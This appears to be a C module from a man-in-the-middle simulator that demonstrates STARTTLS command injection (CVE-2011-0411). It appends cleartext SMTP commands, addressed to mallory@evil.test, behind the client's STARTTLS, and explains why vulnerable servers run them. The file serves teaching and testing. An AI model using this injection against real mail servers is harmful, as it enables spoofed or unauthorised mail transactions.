/* inject_commands: appends cleartext commands behind the client's STARTTLS, in the same
 * write (CVE-2011-0411 and its kin: a server that keeps what it buffered before the
 * handshake runs them as if they had come through TLS). */
#include "sim/attack/attack.h"

#include <strings.h>

static int inject(struct mitm *m, const uint8_t *line, size_t n)
{
	if (n < 8 || strncasecmp((const char *)line, "STARTTLS", 8))
		return 0;
	mitm_send(m, MITM_LEG_SERVER, SMTP_OUT_COMMAND, line, n, ATTACK_NONE);
	const char *inj = mitm_inject_text(m);
	mitm_inject(m, MITM_LEG_SERVER, SMTP_OUT_COMMAND,
		    inj ? inj : "RSET\nMAIL FROM:<mallory@evil.test>\nRCPT TO:<mallory@evil.test>");
	mitm_note(m, MITM_LEG_SERVER, ATTACK_ADDED, "The attacker appends its own commands behind STARTTLS, in the same write",
		  "These cleartext commands arrive together with STARTTLS. A careful server throws away "
		  "whatever it buffered before the handshake; a vulnerable one runs them as if they had "
		  "come through TLS (CVE-2011-0411).");
	return 1;
}

const struct attack attack_inject_commands = {
	.name = "inject-commands",
	.does = "appends its own commands behind STARTTLS, in the same write",
	.intro = "The attacker sits in the path, ready to slip commands in behind STARTTLS",
	.client_line = inject,
};
